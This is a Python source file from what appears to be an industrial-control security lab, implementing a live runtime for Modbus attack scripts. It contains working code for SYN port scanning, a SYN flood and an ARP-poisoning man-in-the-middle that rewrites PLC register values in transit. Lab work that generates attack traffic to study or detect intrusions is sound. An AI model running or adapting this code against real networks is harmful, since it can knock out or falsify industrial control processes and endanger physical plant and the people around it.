"""The live runtime of ``sentinel.lab.ops``: scripts run with real sockets and real time.

Modbus operations use asyncio TCP connections (``TCP_NODELAY``, one segment per request as
SCADA drivers send them); each connection has a reader task that frames responses and hands
them to the request waiting for their transaction id. Scans and floods use scapy; the man in
the middle uses raw ``AF_PACKET`` sockets (ARP replies, and forwarding frames between the
victims with the MAC addresses rewritten, altering FC 3/4 values on the way, with the same
code the synthetic generator uses). Run inside a lab namespace, as root for the raw ones.
"""

from __future__ import annotations

import asyncio
import contextlib
import logging
import random
import socket
import struct
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from sentinel.lab import ops
from sentinel.lab.pcapwriter import arp_frame, ip_bytes, mac_bytes, rewrite_tcp

log = logging.getLogger(__name__)
_MBAP = struct.Struct(">HHHB")
CONNECT_TIMEOUT = 3.0


class LiveConn:
    """One TCP connection and its response reader."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        self.tid = 1
        self.waiting: dict[int, asyncio.Future[bytes]] = {}
        self.answers = 0
        self.task = asyncio.ensure_future(self._read())

    async def _read(self) -> None:
        buf = b""
        try:
            while True:
                data = await self.reader.read(4096)
                if not data:
                    return
                buf += data
                while len(buf) >= 8:
                    tid, _pid, length, _unit = _MBAP.unpack_from(buf)
                    if len(buf) < 6 + length:
                        break
                    pdu = buf[7 : 6 + length]
                    buf = buf[6 + length :]
                    self.answers += 1
                    fut = self.waiting.pop(tid, None)
                    if fut is not None and not fut.done():
                        fut.set_result(pdu)
        except (ConnectionError, OSError):
            return

    async def close(self) -> None:
        self.writer.close()
        with contextlib.suppress(TimeoutError, ConnectionError, OSError):
            await asyncio.wait_for(self.writer.wait_closed(), 2.0)
        self.task.cancel()


class LiveRuntime:
    """Runs scripts; ``iface_for(address)`` names the interface that reaches an address
    (the attacker has one per site)."""

    def __init__(self, iface_for: Callable[[str], str] | None = None) -> None:
        self.iface_for = iface_for or (lambda _address: "eth0")

    @staticmethod
    def actor(name: str, address: str, rng: random.Random) -> ops.Actor:
        return ops.Actor(name, address, rng, time.time)

    async def run(self, script: ops.Script, stop: asyncio.Event | None = None) -> None:
        value: Any = None
        conns: list[LiveConn] = []
        try:
            while stop is None or not stop.is_set():
                try:
                    op = script.send(value)
                except StopIteration:
                    return
                value = await self._do(op, conns)
        finally:
            for conn in conns:
                await conn.close()

    async def _do(self, op: ops.Op, conns: list[LiveConn]) -> Any:
        if isinstance(op, ops.Sleep):
            await asyncio.sleep(max(op.seconds, 0.0))
            return None
        if isinstance(op, ops.Connect):
            try:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(op.dst, op.port), CONNECT_TIMEOUT
                )
            except (TimeoutError, OSError):
                return None
            sock = writer.get_extra_info("socket")
            if sock is not None:
                sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            conn = LiveConn(reader, writer)
            conns.append(conn)
            return conn
        if isinstance(op, ops.Request):
            conn = op.conn
            tid = op.tid if op.tid is not None else conn.tid
            if op.tid is None:
                conn.tid = (conn.tid + 1) & 0xFFFF
            fut: asyncio.Future[bytes] = asyncio.get_running_loop().create_future()
            conn.waiting[tid] = fut
            try:
                conn.writer.write(ops.adu(tid, op.unit, op.pdu))
                await conn.writer.drain()
                return await asyncio.wait_for(fut, op.timeout)
            except (TimeoutError, ConnectionError, OSError):
                conn.waiting.pop(tid, None)
                return None
        if isinstance(op, ops.Send):
            try:
                op.conn.writer.write(op.data)
                await op.conn.writer.drain()
            except (ConnectionError, OSError):
                pass
            return None
        if isinstance(op, ops.Burst):
            conn = op.conn
            before = conn.answers
            start = time.monotonic()
            for i, data in enumerate(op.adus):
                due = start + i * op.interval
                delay = due - time.monotonic()
                if delay > 0:
                    await asyncio.sleep(delay)
                try:
                    conn.writer.write(data)
                except (ConnectionError, OSError):
                    break
            with contextlib.suppress(ConnectionError, OSError):
                await conn.writer.drain()
            await asyncio.sleep(op.linger)
            return conn.answers - before
        if isinstance(op, ops.Close):
            await op.conn.close()
            if op.conn in conns:
                conns.remove(op.conn)
            return None
        loop = asyncio.get_running_loop()
        if isinstance(op, ops.SynScan):
            return await loop.run_in_executor(None, self._syn_scan, op)
        if isinstance(op, ops.SynFlood):
            return await loop.run_in_executor(None, self._syn_flood, op)
        if isinstance(op, ops.Mitm):
            return await loop.run_in_executor(None, self._mitm, op)
        raise TypeError(f"unknown operation {op!r}")

    # ------------------------------------------------------------------ scapy
    def _syn_scan(self, op: ops.SynScan) -> list[int]:
        from scapy.layers.inet import IP, TCP
        from scapy.sendrecv import sr

        packets = [
            IP(dst=op.dst)
            / TCP(sport=op.sport, dport=port, flags="S", window=1024, options=[("MSS", 1460)])
            for port in op.ports
        ]
        answered, _ = sr(packets, inter=op.interval, timeout=1.0, verbose=0)
        return sorted(
            int(sent[TCP].dport)
            for sent, got in answered
            if got.haslayer(TCP) and int(got[TCP].flags) & 0x12 == 0x12
        )

    def _syn_flood(self, op: ops.SynFlood) -> None:
        from scapy.config import conf
        from scapy.layers.inet import IP, TCP

        rng = random.Random()
        sock = conf.L3socket(iface=self.iface_for(op.dst))
        try:
            start = time.monotonic()
            for i in range(op.count):
                packet = IP(dst=op.dst) / TCP(
                    sport=rng.randint(1024, 65535),
                    dport=op.port,
                    flags="S",
                    seq=rng.getrandbits(32),
                    window=1024,
                    options=[("MSS", 1460)],
                )
                delay = start + i * op.interval - time.monotonic()
                if delay > 0:
                    time.sleep(delay)
                sock.send(packet)
        finally:
            sock.close()

    # ------------------------------------------------------------------ man in the middle
    def _mitm(self, op: ops.Mitm) -> None:
        from sentinel.lab.synth import _tamper

        iface = self.iface_for(op.plc)
        victim_mac = _resolve_mac(op.victim, iface)
        plc_mac = _resolve_mac(op.plc, iface)
        own_mac = mac_bytes(Path(f"/sys/class/net/{iface}/address").read_text().strip())
        victim_ip, plc_ip = ip_bytes(op.victim), ip_bytes(op.plc)
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
        sock.bind((iface, 0x0800))
        sock.settimeout(0.2)
        out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        out.bind((iface, 0))
        stop = threading.Event()

        def poison() -> None:
            while not stop.is_set():
                out.send(arp_frame(2, own_mac, plc_ip, victim_mac, victim_ip, victim_mac))
                out.send(arp_frame(2, own_mac, victim_ip, plc_mac, plc_ip, plc_mac))
                stop.wait(op.repoison)

        poisoner = threading.Thread(target=poison, daemon=True)
        poisoner.start()
        end = time.monotonic() + op.duration
        try:
            while time.monotonic() < end:
                try:
                    frame = sock.recv(65535)
                except TimeoutError:
                    continue
                if frame[0:6] != own_mac or len(frame) < 34 or frame[23] != 6:
                    continue
                src_ip, dst_ip = frame[26:30], frame[30:34]
                if (src_ip, dst_ip) not in ((victim_ip, plc_ip), (plc_ip, victim_ip)):
                    continue
                ihl = (frame[14] & 15) * 4
                at = 14 + ihl + (frame[14 + ihl + 12] >> 4) * 4
                total = struct.unpack_from(">H", frame, 16)[0]
                frame = frame[: 14 + total]  # without Ethernet padding
                payload = frame[at:]
                # The sender's kernel left the TCP checksum to an offload that a frame sent
                # again from a raw socket does not get: it is always computed afresh.
                if dst_ip == plc_ip:
                    out.send(rewrite_tcp(frame, own_mac, plc_mac, payload))
                else:
                    out.send(rewrite_tcp(frame, own_mac, victim_mac, _tamper(payload, op.factor)))
        finally:
            stop.set()
            poisoner.join()
            for _ in range(3):  # restore both caches
                out.send(arp_frame(2, plc_mac, plc_ip, victim_mac, victim_ip, victim_mac, own_mac))
                out.send(arp_frame(2, victim_mac, victim_ip, plc_mac, plc_ip, plc_mac, own_mac))
                time.sleep(0.2)
            sock.close()
            out.close()


def _resolve_mac(address: str, iface: str) -> bytes:
    """The MAC of a neighbour, by ARP (scapy)."""
    from scapy.layers.l2 import getmacbyip

    mac = getmacbyip(address)
    if not mac:
        raise OSError(f"no ARP answer from {address} on {iface}")
    return mac_bytes(mac)
